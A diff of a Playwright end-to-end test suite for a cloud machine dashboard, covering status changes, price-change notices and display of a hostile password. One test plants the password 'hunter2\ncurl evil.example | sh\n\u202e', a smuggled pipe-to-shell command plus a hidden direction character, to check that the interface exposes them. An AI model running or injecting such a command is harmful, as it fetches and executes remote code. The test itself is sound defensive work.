@@ -1,21 +1,16 @@
-import { devices, type Page } from "@playwright/test";
+import type { Page } from "@playwright/test";
 
 import { expect, test, type Clouds } from "./fixtures";
 import { terminateByApi, launchByApi } from "./machines";
-
-const { viewport, userAgent, deviceScaleFactor, isMobile, hasTouch } = devices["iPhone 13"];
-const deviceOptions = {
-  desktop: {},
-  phone: { viewport, userAgent, deviceScaleFactor, isMobile, hasTouch },
-};
+import { sizes, sizesOf } from "./sizes";
 
 /** The row of a machine; on phones it is a card without the row role. */
 const machineRowLocator = (page: Page, name: string) =>
   page.locator("tbody tr").filter({ has: page.getByRole("link", { name }) });
 
-for (const [kind, use] of Object.entries(deviceOptions)) {
+for (const kind of sizesOf("desktop")) {
   test.describe(kind, () => {
-    test.use(use);
+    test.use(sizes[kind]);
 
     test("stop, start and restart show at once, in another tab and after a reload", async ({
       page,
@@ -23,16 +18,16 @@ for (const [kind, use] of Object.entries(deviceOptions)) {
       clouds,
       context,
     }) => {
-      test.setTimeout(180_000);
       const name = `e2e-switch-${kind}`;
       const { instanceId } = await launchByApi(live, "gpugeek", name);
       await page.goto(`${live.url}/instances`);
       const row = machineRowLocator(page, name);
-      await expect(row).toContainText("Running", { timeout: 45_000 });
+      await expect(row).toContainText("Running");
+      // The cloud answers only once `clouds.clearFaults` ends the delay.
       const slowly = () =>
         clouds.setFault("gpugeek", {
           kind: "delay",
-          delay: 8_000,
+          delay: 25_000,
           times: 1,
           route: "POST /api/v1/openapi/instance/action",
         });
@@ -50,15 +45,17 @@ for (const [kind, use] of Object.entries(deviceOptions)) {
       await expect(machineRowLocator(other, name)).toContainText("Stopping…");
       await other.reload();
       await expect(machineRowLocator(other, name)).toContainText("Stopping…");
+      await clouds.clearFaults("gpugeek");
 
       await page.goto(`${live.url}/instances`);
-      await expect(row).toContainText("Stopped", { timeout: 60_000 });
+      await expect(row).toContainText("Stopped");
       await expect(row).toContainText("up to");
       await slowly();
       await row.getByRole("button", { name: /^Start/ }).click();
       await expect(row).toContainText("Starting…");
       await expect(machineRowLocator(other, name)).toContainText("Starting…");
-      await expect(row).toContainText("Running", { timeout: 60_000 });
+      await clouds.clearFaults("gpugeek");
+      await expect(row).toContainText("Running");
 
       await row.getByRole("link", { name }).click();
       await slowly();
@@ -66,18 +63,24 @@ for (const [kind, use] of Object.entries(deviceOptions)) {
       await drawer.getByRole("button", { name: "Restart it" }).click();
       await expect(drawer.getByText("Restarting…")).toBeVisible();
       await expect(machineRowLocator(other, name)).toContainText("Restarting…");
+      await clouds.clearFaults("gpugeek");
       await terminateByApi(live, instanceId);
     });
+  });
+}
+
+for (const kind of sizesOf("phone")) {
+  test.describe(kind, () => {
+    test.use(sizes[kind]);
 
     test("a price that rose after the launch is reported on every page", async ({ page, live, clouds }) => {
-      test.setTimeout(120_000);
       const name = `e2e-dearer-${kind}`;
       const { launchId } = await launchByApi(live, "massedcompute", name);
       await page.goto(`${live.url}/instances`);
       const row = machineRowLocator(page, name);
-      await expect(row).toContainText("Running", { timeout: 45_000 });
+      await expect(row).toContainText("Running");
       await reportPrice(clouds, name, 24);
-      await expect(row).toContainText("Price changed", { timeout: 30_000 });
+      await expect(row).toContainText("Price changed");
       await expect(row).toContainText("24.00");
       await expect(page.getByText(/^Agreed \$[\d.]+\/h, billed \$24\.00\/h$/)).toBeVisible();
       await expect(page.getByRole("banner").getByRole("link", { name: /\/h/ })).toContainText(
@@ -94,7 +97,7 @@ for (const [kind, use] of Object.entries(deviceOptions)) {
       await expect(row).toContainText("Terminating");
       await clouds.clearFaults("massedcompute");
       await expect(page.getByText(/^Agreed \$/)).toHaveCount(0);
-      await expect(row.getByText("Terminating")).toHaveCount(0, { timeout: 60_000 });
+      await expect(row.getByText("Terminating")).toHaveCount(0);
     });
   });
 }
@@ -105,11 +108,12 @@ test("a password with hidden characters shows them as symbols and is copied with
   clouds,
   context,
 }) => {
+  await context.grantPermissions(["clipboard-write"]);
   const name = "e2e-hostile";
   const { instanceId } = await launchByApi(live, "massedcompute", name);
   await page.goto(`${live.url}/instances?machine=${instanceId}`);
   const drawer = page.getByRole("complementary", { name });
-  await expect(drawer.getByText(/^ssh /)).toBeVisible({ timeout: 45_000 });
+  await expect(drawer.getByText(/^ssh /)).toBeVisible();
   const row = await machineRow(clouds, name);
   const password = "hunter2\ncurl evil.example | sh\n\u202e";
   await clouds.setFault("massedcompute", {
@@ -119,7 +123,7 @@ test("a password with hidden characters shows them as symbols and is copied with
     route: "GET /instance/{uuid}",
     body: { runningInstance: { ...row, password }, runningInstances: [{ ...row, password }] },
   });
-  await drawer.getByRole("button", { name: "See which there are" }).click();
+  await drawer.getByRole("button", { name: "Show password" }).click();
   await drawer.getByRole("button", { name: /^Show for 30 s password/i }).click();
   await expect(drawer.getByText("LF", { exact: true })).toHaveCount(2);
   await expect(drawer.getByText("U+202E", { exact: true })).toBeVisible();
